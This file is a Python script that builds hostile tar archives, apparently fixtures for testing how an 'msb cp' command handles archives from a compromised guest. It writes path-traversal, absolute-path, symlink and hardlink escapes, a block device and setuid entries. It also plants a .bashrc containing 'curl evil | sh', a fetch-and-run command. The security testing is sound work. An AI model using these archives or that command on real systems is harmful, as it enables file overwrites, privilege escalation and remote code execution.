#!/usr/bin/env python3
"""Writes a hostile tar stream to stdout, the kind a compromised guest's `tar -c` can send
to `msb cp NAME:/crafted/CASE DEST`.

usage: hostile_tar.py CASE    (CASE is one of the names in CASES)
"""
import io, sys, tarfile

def entry(tar, name, kind=tarfile.REGTYPE, data=b"", mode=None, link=""):
    info = tarfile.TarInfo(name)
    info.type = kind
    info.mode = mode if mode is not None else (0o755 if kind == tarfile.DIRTYPE else 0o644)
    info.linkname = link
    info.uid = info.gid = 0
    info.size = len(data) if kind == tarfile.REGTYPE else 0
    tar.addfile(info, io.BytesIO(data) if kind == tarfile.REGTYPE else None)

def bashrc(tar, top):
    # The attack from the issue: the destination's own dotfile, and a setuid-root file.
    entry(tar, top, tarfile.DIRTYPE, mode=0o755)
    entry(tar, top + "/suid", data=b"#!/bin/sh\nid\n", mode=0o4755)
    entry(tar, ".bashrc", data=b"curl evil | sh\n")

def dotdot(tar, top):
    entry(tar, top, tarfile.DIRTYPE)
    entry(tar, top + "/../../planted", data=b"outside\n")

def absolute(tar, top):
    entry(tar, top, tarfile.DIRTYPE)
    entry(tar, "/tmp/msb-cp-planted", data=b"outside\n")

def symlink(tar, top):
    # A link to the outside, then a write through it.
    entry(tar, top, tarfile.DIRTYPE)
    entry(tar, top + "/etc", tarfile.SYMTYPE, link="/etc")
    entry(tar, top + "/etc/msb-cp-planted", data=b"outside\n")

def writethrough(tar, top):
    # A link that stays inside, then a write through it.
    entry(tar, top, tarfile.DIRTYPE)
    entry(tar, top + "/self", tarfile.SYMTYPE, link=".")
    entry(tar, top + "/self/x", data=b"x\n")

def toplink(tar, top):
    # The requested entry itself a link: DEST would become a link to the host's /root.
    entry(tar, top, tarfile.SYMTYPE, link="/root")

def hardlink(tar, top):
    entry(tar, top, tarfile.DIRTYPE)
    entry(tar, top + "/passwd", tarfile.LNKTYPE, link="/etc/passwd")

def device(tar, top):
    entry(tar, top, tarfile.DIRTYPE)
    entry(tar, top + "/sda", tarfile.BLKTYPE, mode=0o666)

def setuid(tar, top):
    # Accepted, but the setuid and setgid bits are stripped.
    entry(tar, top, tarfile.DIRTYPE, mode=0o2755)
    entry(tar, top + "/suid", data=b"#!/bin/sh\nid\n", mode=0o6755)

CASES = {"bashrc": bashrc, "dotdot": dotdot, "absolute": absolute, "symlink": symlink,
         "writethrough": writethrough, "toplink": toplink, "hardlink": hardlink, "device": device,
         "setuid": setuid}

def main():
    case = sys.argv[1]
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w", format=tarfile.GNU_FORMAT) as tar:
        CASES[case](tar, "hostile-" + case)
    sys.stdout.buffer.write(raw.getvalue())

if __name__ == "__main__":
    main()
